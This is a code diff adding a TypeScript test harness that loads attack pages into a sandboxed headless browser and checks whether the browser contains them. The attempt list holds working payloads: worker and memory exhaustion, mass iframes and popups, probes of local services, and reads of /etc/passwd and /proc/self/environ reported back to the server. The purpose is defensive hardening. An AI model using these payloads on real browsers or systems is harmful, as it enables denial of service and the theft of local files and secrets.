@@ -1,0 +1,112 @@
+import type { ServerResponse } from "node:http";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import type { Attempt, AttemptResult } from "@treadle/workspace";
+import { createLooker } from "./create-browser.ts";
+import type { LookerOptions } from "./types.ts";
+
+const ORIGIN = "http://attack.localhost:4173";
+const page = (script: string) => `<!doctype html><p>x</p><script>${script}</script>`;
+const GOOD = "/good";
+
+/** What a page does in the browser that looks, and what it must not come to. `asked`: paths that it asked its server for. */
+interface PageAttempt {
+  id: string;
+  what: string;
+  script: string;
+  /** Whether it got what it was after. */
+  got?(asked: readonly string[]): boolean;
+}
+
+const tell = (what: string) => `fetch("/told?" + encodeURIComponent(${what}))`;
+
+const ATTEMPTS: readonly PageAttempt[] = [
+  {
+    id: "A50",
+    what: "threads without end, by workers",
+    script: `const u = URL.createObjectURL(new Blob(["for(;;);"])); for (let i = 0; i < 2000; i++) new Worker(u)`,
+  },
+  {
+    id: "A50",
+    what: "memory without end, outside of the heap",
+    script: `const all = []; setInterval(() => { for (let i = 0; i < 8; i++) all.push(new Uint8Array(1 << 26).fill(1)) })`,
+  },
+  {
+    id: "A50",
+    what: "processes without end, by frames of many sites",
+    script: `for (let i = 0; i < 300; i++) { const f = document.createElement("iframe"); f.src = "http://s" + i + ".attack.localhost:4173/busy"; document.body.append(f) }`,
+  },
+  {
+    id: "A50",
+    what: "other windows",
+    script: `for (let i = 0; i < 50; i++) open("/busy?" + i); for (;;);`,
+  },
+  {
+    id: "A16",
+    what: "a service of this machine, by its number",
+    script: `Promise.allSettled(["http://127.0.0.1:PORT/", "http://[::1]:PORT/", "http://0.0.0.0:PORT/"].map((u) => fetch(u, { mode: "no-cors" }).then(() => ${tell("'reached'")})))`,
+    got: (asked) => asked.some((path) => path.includes("reached")),
+  },
+  {
+    id: "A33",
+    what: "files of this machine",
+    script: `Promise.allSettled(["file:///etc/hostname", "file:///proc/self/environ"].map((u) => fetch(u).then((r) => r.text()).then((t) => ${tell("'file ' + t")}))); location = "file:///etc/passwd"`,
+    got: (asked) => asked.some((path) => path.includes("file")),
+  },
+];
+
+/** Makes each attempt for real, in a browser of its own that is gone afterwards. */
+export async function attackFromLooker(options: {
+  env: LookerOptions["env"];
+  cacheDirectory?: string;
+  /** A port of this machine that something listens on. */
+  servicePort?: number;
+  onResult?(attempt: Pick<Attempt, "id" | "area" | "what">, result: AttemptResult): void;
+}): Promise<(AttemptResult & { what: string })[]> {
+  const asked: string[] = [];
+  let script = "";
+  const answer = (url: string, response: ServerResponse) => {
+    asked.push(url);
+    response.writeHead(200, { "content-type": "text/html" });
+    response.end(url.startsWith("/busy") ? page("for (;;);") : page(url === GOOD ? "" : script));
+  };
+  const looker = createLooker({
+    env: options.env,
+    cacheDirectory: options.cacheDirectory ?? join(tmpdir(), "treadle-looker-cache"),
+    gateway: {
+      handle: (request, response) => answer(request.url ?? "/", response),
+      upgrade: (_request, socket) => void socket.destroy(),
+      connect: async () => undefined,
+    },
+    lookMs: 6_000,
+    wholeMs: 9_000,
+  });
+  const results: (AttemptResult & { what: string })[] = [];
+  try {
+    for (const attempt of ATTEMPTS) {
+      asked.length = 0;
+      script = attempt.script.replaceAll("PORT", String(options.servicePort ?? 9));
+      const look = (path: string) => looker.look({ origin: ORIGIN, path });
+      const said = await look("/").then(
+        (report) => (report.rendered ? "it was looked at" : "nothing was seen of it"),
+        (error: Error) => error.message,
+      );
+      const got = attempt.got?.(asked) ?? false;
+      // Whatever it did to its browser, the next page finds one.
+      const next = await look(GOOD).then(
+        ({ status }) => status === 200,
+        () => false,
+      );
+      const outcome = got || !next ? "through" : "held";
+      const output = `${said}; the next page ${next ? "was" : "was not"} looked at\n`;
+      results.push({ what: attempt.what, outcome, output });
+      options.onResult?.(
+        { id: attempt.id, area: "looker", what: attempt.what },
+        { outcome, output },
+      );
+    }
+  } finally {
+    await looker.close();
+  }
+  return results;
+}
